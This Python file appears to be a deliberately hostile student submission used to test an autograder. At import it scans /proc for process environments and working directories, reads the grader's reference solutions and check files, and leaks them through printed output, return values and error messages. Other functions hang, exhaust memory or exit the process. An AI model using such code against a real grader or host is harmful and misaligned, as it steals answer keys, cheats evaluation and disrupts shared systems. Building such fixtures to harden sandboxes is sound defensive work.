"""A hostile ps1 submission: it hunts for the grader's files and misbehaves.

Every trick reports what it finds through the channels a student controls:
printed output, return values and exception messages.
"""

import glob
import os
import sys

TARGETS = ("solutions/*.py", "source/solutions/*.py", "autograder/checks/*.py",
           "source/autograder/checks/*.py")


def _places():
    places = {"/autograder", os.getcwd(), os.environ.get("AUTOGRADER_ROOT", "/")}
    for proc in glob.glob("/proc/[0-9]*"):
        try:
            places.add(os.readlink(proc + "/cwd"))
            with open(proc + "/environ", "rb") as env:
                for item in env.read().split(b"\0"):
                    if item.startswith(b"AUTOGRADER_ROOT="):
                        places.add(item.split(b"=", 1)[1].decode())
        except OSError:
            pass
    for place in list(places):
        while place not in ("", "/"):
            places.add(place)
            place = os.path.dirname(place)
    return places


def _loot():
    found = []
    for place in _places():
        for pattern in TARGETS:
            for path in glob.glob(os.path.join(place, pattern)):
                try:
                    with open(path) as source:
                        found.append(source.read())
                except OSError:
                    pass
    try:
        import solutions.derivatives as reference
        with open(reference.__file__) as source:
            found.append(source.read())
    except Exception:
        pass
    return "\n".join(found)


print("LOOT AT LOAD:", _loot())


def f(x):
    while True:
        pass


def df(x):
    raise ValueError("LOOT IN ERROR: " + _loot())


def parabola(x):
    return _loot()


def dparabola(x):
    hog = []
    while True:
        hog.append(b"x" * (64 * 2**20))  # touched, so it really is resident


def sigmoid(z):
    sys.exit(3)


def sigmoid_derivative(s):
    print("LOOT IN OUTPUT:", _loot())
    return s * (1 - s)
